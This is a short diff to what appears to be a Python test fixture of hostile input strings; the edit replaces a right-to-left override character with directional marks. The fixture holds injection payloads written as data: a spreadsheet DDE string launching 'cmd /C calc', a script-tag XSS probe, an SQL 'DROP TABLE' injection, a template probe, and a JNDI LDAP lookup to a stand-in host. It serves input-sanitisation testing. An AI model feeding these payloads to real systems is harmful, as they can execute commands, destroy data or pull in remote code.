@@ -32,7 +32,7 @@ HOSTILE: Mapping[str, str] = MappingProxyType(
         "line-ends": "one\r\ntwo\nthree\rfour",
         "formula": '=HYPERLINK("http://example.org";"click")',
         "command": "@SUM(1+1)*cmd|' /C calc'!A0",
-        "right-to-left": "\u202eשלום\u202c مرحبا",  # noqa: RUF001  (the point of it)
+        "right-to-left": "\u200fשלום\u200e مرحبا",  # noqa: RUF001  (the point of it)
         "markup": "<script>alert('x')</script> &amp; <b>",
         "quotes": """'; DROP TABLE leads; -- "quoted", (a;b) \\n""",
         "templates": "{{ 7 * 7 }} ${jndi:ldap://example.org} %s %(name)s {0}",
